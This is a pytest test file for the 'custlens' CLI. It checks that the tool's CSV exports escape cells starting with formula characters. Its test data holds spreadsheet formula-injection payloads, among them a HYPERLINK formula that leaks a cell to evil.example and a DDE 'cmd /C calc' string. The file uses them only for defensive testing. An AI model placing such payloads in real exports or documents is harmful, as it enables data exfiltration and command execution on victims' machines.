"""What custlens writes is safe where it is opened: a spreadsheet runs no formula from a note, a terminal
gets no control sequence from one, a strict JSON parser reads every file name."""

from __future__ import annotations

import csv
import io
import json

import pytest

from custlens.cli import app

from .conftest import note

# --- spreadsheets -----------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)")


def _formula_notes(folder) -> None:
    for k in range(2):
        note(folder, f"=1+1-{k}.md", participant=f"P-{k}", segment="+seg", needs=(*FORMULAS, "-5"),
             pains=FORMULAS, extra='tags: ["=tag", "-x"]\nresearcher: "@ana"')


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("command", [["statements"], ["themes", "--all"], ["segments"], ["trends"], ["show", "{theme}"]])
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(command, runner, in_tmp) -> None:
    _formula_notes(in_tmp / "notes")
    themes = json.loads(runner.invoke(app, ["themes", "--all", "--format", "json"]).stdout)["themes"]
    theme = next(t["id"] for t in themes if t["label"] == FORMULAS[0])
    result = runner.invoke(app, [word.format(theme=theme) for word in command] + ["--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    cells = [cell for row in rows[1:] for cell in row]
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "-5"]
    assert formulas == []
    if command[0] in ("statements", "show", "themes"):  # the texts are there, shown as they were written
        assert "'" + FORMULAS[0] in cells
    if command[0] in ("statements", "show"):
        assert "'=1+1-0" in cells and "'+seg" in cells and "'=tag; -x" in cells and "'@ana" in cells
        assert all(row[rows[0].index("line")].isdigit() for row in rows[1:])  # numbers stay numbers
    if command[0] == "statements":
        assert "'" + FORMULAS[3] in cells and "-5" in cells  # a plain number is not a formula
    if command[0] == "themes":
        assert all(row[rows[0].index("mentions")].isdigit() for row in rows[1:])
